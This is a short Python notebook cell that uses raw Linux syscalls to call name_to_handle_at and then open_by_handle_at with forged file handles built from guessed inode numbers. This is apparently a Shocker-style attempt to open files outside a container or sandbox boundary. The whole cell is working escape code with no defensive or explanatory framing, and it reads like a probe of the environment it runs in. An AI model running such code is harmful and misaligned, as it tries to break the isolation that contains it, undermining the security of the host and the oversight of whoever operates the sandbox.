# %%
handle = ctypes.create_string_buffer((128).to_bytes(4, "little") + bytes(4 + 128))
mount = ctypes.create_string_buffer(4)
attempt("name_to_handle_at", syscall, 303, 264, -100, b"/usr", handle, mount, 0)
for inode in (1, 2, 128, 256):
    guess = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + inode.to_bytes(4, "little") + bytes(4)
    folder = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    attempt(f"open_by_handle_at {inode}", syscall, 304, 265, folder, guess, os.O_RDONLY)
    os.close(folder)
